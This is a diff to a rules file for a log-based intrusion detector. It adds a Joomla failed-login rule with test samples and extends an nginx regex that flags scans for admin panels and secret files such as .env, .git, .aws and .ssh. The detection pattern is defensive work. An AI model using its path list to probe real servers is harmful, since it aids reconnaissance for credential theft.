+        "description": "Joomla! login failed from {ip}: {reason}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "joomla"
+        },
+        "samples": [
+          {
+            "line": "2023-10-10T13:55:36+00:00\tINFO 192.0.2.150\tjoomlafailure\tUsername and password do not match or you do not have an account yet.",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.150"
+                }
+              ],
+              "Target": [
+                {
+                  "Service": "joomla"
+                }
+              ],
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "CreateTime": "2023-10-10T13:55:36+00:00"
+            }
+          },
+          {
+            "line": "2022-01-25T09:43:45+00:00\tINFO 2001:db8::151\tjoomlafailure\tL'identifiant ne correspond pas au mot de passe, ou vous n'avez pas encore de compte.",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::151"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2013-11-24T12:51:32+00:00\tINFO\tjoomlafailure\tUsuario no existe",
+            "expect": {
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "2023-10-10T13:55:36+00:00\tWARNING 192.0.2.152\tjerror\tUsername and password do not match or you do not have an account yet.",
+            "expect": null
+          },
+          {
+            "line": "2023-10-10T13:55:36+00:00\tWARNING 192.0.2.153\tassets\tNo asset found for com_content.article.1, falling back to com_content",
+            "expect": null
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "joomla",
+      "description": "Joomla! error.php log (FormattedtextLogger)",
+      "lines": [
+        {
+          "prefix": "^(?<time>\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d(?:\\.\\d{1,6})?(?:Z|[+-]\\d\\d:\\d\\d))\\t(?:EMERGENCY|ALERT|CRITICAL|ERROR|WARNING|NOTICE|INFO|DEBUG)(?: (?=[0-9A-Fa-f:.]{2,45}\\t)|\\t(?=[A-Za-z0-9_.-]{1,64}\\t))"
         }
       ]
     }
@@ -6859,7 +7130,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "nginx"
         ],
-        "pattern": "^(?:open\\(\\) \"(?<path>[^\"]{0,2048}(?:\\.(?:php[0-9]?|asp|aspx|jsp|cgi|pl|exe|dll|sh|env|git|bak|sql|ini)|/(?:wp-login\\.php|wp-admin|wp-content|wp-includes|wordpress|xmlrpc\\.php|phpmyadmin|phpMyAdmin|PhpMyAdmin|phpMyadmin|phpadmin|PMA|pma|myadmin|MyAdmin|mysqladmin|mysql|sqladmin|sqlmanager|websql|dbadmin|admin|administrator|manager|joomla|cgi-bin|xampp|webdav|vtigercrm|muieblackcat|w00tw00t|jmx-console|web-console|invoker|solr|actuator|\\.env|\\.git|\\.svn|\\.aws|\\.ssh|\\.DS_Store|HNAP1|boaform|GponForm|shell|setup\\.php)[^\"]{0,512}))\" failed \\(2: No such file or directory\\)|\"(?<index>[^\"]{0,2048}\\.php)\" is not found \\(2: No such file or directory\\)|FastCGI sent in stderr: \"Primary script unknown\" while reading response header from upstream), client: (?<ip>[0-9A-Fa-f:.]{2,45}), server: ",
+        "pattern": "^(?:open\\(\\) \"(?<path>[^\"]{0,2048}(?:\\.(?:php[0-9]?|asp|aspx|jsp|cgi|pl|exe|dll|sh|env|git|bak|sql|ini)|/(?:wp-login\\.php|wp-admin|wp-content|wp-includes|wordpress|xmlrpc\\.php|phpmyadmin|phpMyAdmin|PhpMyAdmin|phpMyadmin|phpadmin|PMA|pma|myadmin|MyAdmin|mysqladmin|mysql|sqladmin|sqlmanager|websql|dbadmin|admin|administrator|manager|joomla|cgi-bin|xampp|webdav|vtigercrm|muieblackcat|w00tw00t|jmx-console|web-console|invoker|solr|actuator|\\.env|\\.git|\\.svn|\\.aws|\\.ssh|\\.DS_Store|HNAP1|boaform|GponForm|shell|setup\\.php|roundcube|roundcubemail|webmail|horde|squirrelmail|rainloop|phppgadmin|phpPgAdmin|pgadmin|adminer|sqlbuddy|webdb|typo3|zabbix)[^\"]{0,512}))\" failed \\(2: No such file or directory\\)|\"(?<index>[^\"]{0,2048}(?:\\.php|/(?:phpmyadmin|phpMyAdmin|pma|myadmin|mysqladmin|wp-admin|wordpress|admin|administrator|roundcube|webmail|cgi-bin|\\.git)/[^\"]{0,256}))\" is not found \\(2: No such file or directory\\)|FastCGI sent in stderr: \"Primary script unknown\" while reading response header from upstream), client: (?<ip>[0-9A-Fa-f:.]{2,45}), server: ",
         "category": [
           "Recon.Network"
         ],
@@ -6872,6 +7143,34 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           "service": "http"
         },
         "samples": [
+          {
+            "line": "2024/01/02 03:04:05 [error] 123#0: *4 \"/usr/share/nginx/html/phpmyadmin/index.html\" is not found (2: No such file or directory), client: 192.0.2.142, server: example.com, request: \"GET /phpmyadmin/ HTTP/1.1\", host: \"example.com\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.142"
+                }
+              ],
+              "Category": [
+                "Recon.Network"
+              ],
+              "Priority": "Low"
+            }
+          },
+          {
+            "line": "2024/01/02 03:04:05 [error] 123#0: *4 open() \"/var/www/html/roundcube/index.php\" failed (2: No such file or directory), client: 192.0.2.143, server: example.com, request: \"GET /roundcube/ HTTP/1.1\", host: \"example.com\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.143"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2024/01/02 03:04:05 [error] 123#0: *4 \"/usr/share/nginx/html/blog/index.html\" is not found (2: No such file or directory), client: 192.0.2.144, server: example.com, request: \"GET /blog/ HTTP/1.1\", host: \"example.com\"",
+            "expect": null
+          },
           {
             "line": "2013/08/28 23:44:32 [error] 5678#0: *9 open() \"/usr/share/nginx/html/phpMyAdmin/scripts/setup.php\" failed (2: No such file or directory), client: 192.0.2.49, server: localhost, request: \"GET /phpMyAdmin/scripts/setup.php HTTP/1.1\", host: \"example.org\"",
             "expect": {
